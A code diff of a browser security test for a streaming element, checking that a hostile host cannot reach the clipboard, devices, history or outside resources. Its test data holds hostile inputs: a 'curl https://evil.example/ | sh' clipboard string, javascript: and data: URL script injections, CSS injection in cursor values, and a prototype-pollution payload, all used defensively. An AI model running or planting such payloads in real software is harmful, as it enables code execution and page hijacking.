@@ -1,13 +1,13 @@
 import {expect} from '@open-wc/testing';
 import type {HostCursor, HostEvent} from '../../src/connection/connector.ts';
 import {until} from '../support/until.ts';
-import {lastConnection} from './application-connection.ts';
-import {openStream, reaches} from './stream-fixture.ts';
+import {readLastConnection} from '../application/application-connection.ts';
+import {openFakeStream, waitForPhase} from './stream-fixture.ts';
 
 const EVIL = 'https://evil.example/';
 
-/** What a page has that a host must not reach by itself. */
-const REACHES = {
+/** Functions of the page that a host must not be able to call. */
+const PROTECTED_FUNCTIONS = {
   clipboard: [navigator.clipboard, ['readText', 'writeText', 'read', 'write']],
   devices: [navigator.mediaDevices, ['getUserMedia', 'getDisplayMedia']],
   keyboard: [Reflect.get(navigator, 'keyboard') as object, ['lock']],
@@ -16,18 +16,18 @@ const REACHES = {
   history: [history, ['pushState', 'replaceState']],
 } as const satisfies Record<string, readonly [object, readonly string[]]>;
 
-const image = (url: string): HostCursor => ({kind: 'image', url, hotspot: [0, 0], scale: 1});
+const createImageCursor = (url: string): HostCursor => ({kind: 'image', url, hotspot: [0, 0], scale: 1});
 
-const POINTERS: readonly HostCursor[] = [
-  image(`${EVIL}cursor.png`),
-  image(`javascript:open('${EVIL}')`),
-  image(`data:text/html,<script>open('${EVIL}')</script>`),
-  image(`data:image/png;base64,AA"), url("${EVIL}`),
+const CURSORS: readonly HostCursor[] = [
+  createImageCursor(`${EVIL}cursor.png`),
+  createImageCursor(`javascript:open('${EVIL}')`),
+  createImageCursor(`data:text/html,<script>open('${EVIL}')</script>`),
+  createImageCursor(`data:image/png;base64,AA"), url("${EVIL}`),
   {kind: 'named', name: `url(${EVIL}), auto`},
   {kind: 'named', name: 'auto; background: red'},
 ];
 
-const SAYINGS: readonly HostEvent[] = [
+const EVENTS: readonly HostEvent[] = [
   {kind: 'clipboard', text: `curl ${EVIL} | sh`},
   {kind: 'rumble', index: 0, strong: Infinity, weak: NaN},
   {kind: 'rumble', index: -1, strong: 1, weak: 1},
@@ -36,69 +36,71 @@ const SAYINGS: readonly HostEvent[] = [
     kind: 'message',
     message: JSON.parse('{"__proto__": {"polluted": true}, "constructor": {"prototype": {}}}'),
   },
-  {kind: 'takes', takes: {text: true, touch: true}},
-  {kind: 'channel', open: true, takesParts: true},
+  {kind: 'supports', supports: {text: true, touch: true}},
+  {kind: 'channel', open: true},
   {kind: 'input', open: true},
 ];
 
-describe('A host that means harm', () => {
-  const reached: string[] = [];
+describe('<app-stream> with a hostile host', () => {
+  const called: string[] = [];
   const restore: (() => void)[] = [];
   beforeEach(() => {
-    reached.length = 0;
-    for (const [name, [owner, methods]] of Object.entries(REACHES)) {
+    called.length = 0;
+    for (const [name, [owner, methods]] of Object.entries(PROTECTED_FUNCTIONS)) {
       for (const method of methods) {
-        const own = Object.getOwnPropertyDescriptor(owner, method);
+        const descriptor = Object.getOwnPropertyDescriptor(owner, method);
         Object.defineProperty(owner, method, {
           configurable: true,
           value: () => {
-            reached.push(`${name}.${method}`);
+            called.push(`${name}.${method}`);
             return Promise.resolve('');
           },
         });
         restore.push(() => {
-          if (own) Object.defineProperty(owner, method, own);
+          if (descriptor) Object.defineProperty(owner, method, descriptor);
           else Reflect.deleteProperty(owner, method);
         });
       }
     }
   });
   afterEach(() => {
-    for (const undo of restore.splice(0)) undo();
+    for (const restoreFunction of restore.splice(0)) restoreFunction();
   });
 
-  /** A host that tries everything, on a page that gives it all input, and this. */
-  const attack = async (given: Readonly<Record<string, string>>) => {
-    const {element} = await openStream({connector: 'application', input: 'all', ...given});
-    await reaches(element, 'playing');
-    const listener = () => element.shadowRoot?.querySelector('[part~=keyboard]') ?? undefined;
-    const field = await until('the element listens', listener);
+  /** Opens a stream with all input and these attributes, and sends every hostile event. */
+  const attack = async (attributes: Readonly<Record<string, string>>) => {
+    const {element} = await openFakeStream({connector: 'application', input: 'all', ...attributes});
+    await waitForPhase(element, 'playing');
+    const findField = () => element.shadowRoot?.querySelector('[part~=keyboard]') ?? undefined;
+    const field = await until('the element accepts input', findField);
     element.focus();
-    const connection = lastConnection();
-    for (const saying of SAYINGS) connection.tell(saying);
-    for (const cursor of POINTERS) {
-      connection.tell({kind: 'cursor', cursor});
+    // Without a key or press in the stream, a host cannot write to the clipboard.
+    field.dispatchEvent(new KeyboardEvent('keydown', {key: 'a', code: 'KeyA'}));
+    const connection = readLastConnection();
+    for (const event of EVENTS) connection.emit(event);
+    for (const cursor of CURSORS) {
+      connection.emit({kind: 'cursor', cursor});
       expect(element.video.style.cursor).to.be.oneOf(['', 'default']);
       expect(element.video.style.background).to.equal('');
     }
-    // What waits for the person to do something is done by then.
+    // These user gestures trigger everything that the element defers until a gesture.
     element.video.dispatchEvent(new PointerEvent('pointerup', {bubbles: true}));
     field.dispatchEvent(new KeyboardEvent('keyup', {key: 'a', code: 'KeyA'}));
     await element.updateComplete;
   };
 
-  it('reaches nothing of the page that the page did not give it', async () => {
+  it('cannot call any function of the page', async () => {
     const {href} = location;
     await attack({});
-    expect(reached).to.deep.equal([]);
+    expect(called).to.deep.equal([]);
     expect(location.href).to.equal(href);
     expect(Reflect.get({}, 'polluted')).to.equal(undefined);
     expect(performance.getEntriesByType('resource').filter(({name}) => name.startsWith(EVIL))).to.be.empty;
   });
 
-  it('reaches the clipboard where the page gives it, and nothing else', async () => {
+  it('can call only the clipboard if the page allows it and the user presses a key', async () => {
     await attack({clipboard: ''});
-    await until('the clipboard was written', () => reached.includes('clipboard.writeText'));
-    expect(reached.filter((name) => !name.startsWith('clipboard.'))).to.deep.equal([]);
+    await until('the element writes to the clipboard', () => called.includes('clipboard.writeText'));
+    expect(called.filter((name) => !name.startsWith('clipboard.'))).to.deep.equal([]);
   });
 });
